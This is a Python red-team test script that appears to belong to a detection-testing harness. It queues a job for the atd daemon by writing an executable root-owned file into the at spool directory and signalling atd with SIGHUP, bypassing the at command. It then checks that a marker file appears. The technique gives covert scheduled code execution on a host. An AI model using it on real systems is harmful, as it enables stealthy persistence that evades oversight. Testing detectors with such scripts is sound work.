"""Round 3: queue an atd job by writing the spool file directly and sending atd SIGHUP (no `at`).

What at(1) does, done by hand: atd runs any executable job file in its spool
whose name says it is due, once it wakes up.
"""

from __future__ import annotations

import os
import signal
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 5
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 3
EXPECT = ("L2",)
SPOOL = Path("/var/spool/cron/atjobs")


def run(args: dict[str, Any]) -> None:
    marker = str(args["marker"])
    atd = rt.pid_of_comm("atd")
    if atd is None:
        rt.report(rt.now(), False, "no atd running")
        return
    name, body = rt.atjob(marker, 0x4837)
    job = SPOOL / name
    t = rt.now()
    fd = os.open(job, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o700)
    os.write(fd, body.encode())
    os.close(fd)
    os.chown(job, 0, 1)  # daemon-group readable, as at(1) leaves it
    os.kill(atd, signal.SIGHUP)
    ok = rt.wait_file(marker, 15)
    rt.report(t, ok, f"{job} + SIGHUP to atd {atd}: marker {'created' if ok else 'missing'}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
